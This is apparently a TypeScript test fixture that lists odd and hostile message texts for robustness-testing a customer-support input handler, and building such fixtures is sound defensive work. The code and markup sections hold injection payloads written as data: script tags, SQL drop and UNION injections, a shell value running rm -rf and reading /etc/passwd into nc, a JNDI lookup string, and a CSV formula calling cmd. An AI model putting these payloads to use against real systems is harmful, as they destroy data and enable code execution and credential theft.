/** As many characters as anybody has sent in one message, and more. */
const LONG = 60_000;

/** What nobody should have to read and somebody will send, each under the name of what is odd about it. */
export const BAD_TEXTS: Readonly<Record<string, string>> = {
  ...sizes(),
  ...pictures(),
  ...binary(),
  ...scripts(),
  ...markup(),
  ...code(),
};

function sizes(): Record<string, string> {
  return {
    empty: '',
    spaces: '   \n\t\r\n ',
    oddSpaces: '\u00a0\u2003\u3000\u2028\u2029',
    letter: 'x',
    digit: '7',
    bracket: '(',
    longLetters: 'x'.repeat(LONG),
    longEmoji: '🎉'.repeat(LONG / 2),
    longFamily: '👨‍👩‍👧‍👦'.repeat(LONG / 11),
    longWord: 'refund '.repeat(LONG / 7),
    longNothing: '\u200b'.repeat(LONG),
    longDigits: '1234567890'.repeat(LONG / 10),
    longDates: 'on 12/12 or 13.01. at 3pm '.repeat(LONG / 26),
    longMoney: 'R$ 1.234,56 '.repeat(LONG / 12),
    longPhones: '+55 11 98888-7777, '.repeat(LONG / 19),
    longMails: 'someone@elsewhere.test '.repeat(LONG / 23),
    longDots: '.'.repeat(LONG),
    longSpaces: `a${' '.repeat(LONG - 2)}b`,
    longLines: 'yes\nno\n'.repeat(LONG / 7),
    longBrackets: '('.repeat(LONG),
    longNegation: 'not '.repeat(LONG / 4),
    longDifferent: Array.from({ length: LONG / 6 }, (_, n) => `w${n.toString(36)}`).join(' '),
  };
}

function pictures(): Record<string, string> {
  return {
    emoji: '🎉🎉🎉',
    flags: '🇧🇷🇪🇸🇬🇧',
    keycaps: '1️⃣2️⃣',
    skin: '👍🏽👎🏿',
    punctuation: '?!?!...;;;---___***',
    questionMark: '?',
    dots: '…',
    invisible: '\u200b\u200c\u200d\ufeff\u2060',
    tagCharacters: '\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}',
    zalgo: `h${'\u0301'.repeat(500)}i${'\u0334'.repeat(500)}`,
  };
}

function binary(): Record<string, string> {
  const bytes = Array.from({ length: 3_000 }, (_, n) => (n * 7919 + (n >> 3)) % 256);
  const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...bytes]);
  return {
    nul: '\0\0\0\0',
    controls: Array.from({ length: 32 }, (_, n) => String.fromCharCode(n)).join(''),
    loneHigh: '\ud83d\ud83d\ud83d',
    loneLow: '\ude00\ude00',
    notCharacters: '\uffff\ufffe\u{1ffff}\u{10ffff}',
    replaced: '\ufffd'.repeat(200),
    latin1: png.toString('latin1'),
    base64: png.toString('base64'),
    dataUrl: `data:image/png;base64,${png.toString('base64')}`,
    hex: png.toString('hex'),
    escape: '\u001b[31mred\u001b[0m\u0007\b\b\b',
  };
}

function scripts(): Record<string, string> {
  return {
    arabic: 'أين طلبي؟ أريد استرداد أموالي من فضلك',
    hebrew: '\u200fאני רוצה את הכסף שלי בחזרה \u2067LP\u2069 בבקשה\u200f',
    chinese: '我想退款，我的包裹还没有到',
    japanese: '注文した商品がまだ届きません',
    cyrillic: 'Где мой заказ и когда он придёт?',
    thai: 'ฉันต้องการเงินคืนสำหรับคำสั่งซื้อของฉัน',
    devanagari: 'मुझे मेरा पैसा वापस चाहिए',
    amharic: 'ገንዘቤን መመለስ እፈልጋለሁ',
    arabicDigits: '٤٢٤٢ و ۱۲۳۴',
    fullWidth: 'ｒｅｆｕｎｄ　ｐｌｅａｓｅ',
    mathematical: '𝓻𝓮𝓯𝓾𝓷𝓭 𝐦𝐞',
    override: '\u202eevihcra eht morf txet emos\u202c tail',
    homoglyphs: 'I want a rеfund', // its second letter is Cyrillic
    mixed: 'quero мои 钱 de volta الآن',
  };
}

function markup(): Record<string, string> {
  return {
    html: '<script>alert(1)</script><img src=x onerror=alert(2)><b>bold</b>',
    entities: '&lt;b&gt; &#x41;&#0; &amp;&amp;&nbsp;',
    markdown: '# Title\n\n```js\nlet x = 1\n```\n[link](javascript:alert(1)) | a | b |',
    whatsapp: '*bold* _slanted_ ~gone~ ```mono``` > quoted\n- one\n1. two',
    loneStars: '***___~~~```',
    link: 'https://elsewhere.test/a?b=c#d wa.me/000 HTTP://EXAMPLE.TEST:99999',
  };
}

function code(): Record<string, string> {
  return {
    sql: "'; drop table message; --",
    sqlUnion: '1 OR 1=1 UNION SELECT * FROM contact',
    json: '{"commands":[{"command":"c1","words":null}]}',
    brokenJson: '{"commands":[{"command":',
    deepJson: `${'['.repeat(2_000)}${']'.repeat(2_000)}`,
    prototype: '__proto__ constructor toString hasOwnProperty',
    prototypeAlone: '__proto__',
    constructorAlone: 'constructor',
    templating: '{{amount}} {amount} ${x} <%= y %> #{z} %s %d %n $1 $& \\1',
    shell: '$(rm -rf /) `id` ; cat /etc/passwd | nc',
    jndi: '${jndi:ldap://elsewhere.test/a}',
    pattern: '(a+)+$ [a-z]*{1,99999} \\',
    undefinedWord: 'undefined null NaN [object Object]',
    optionId: 'refund|confirming|yes',
    csv: '=cmd|"/C calc"!A0',
  };
}
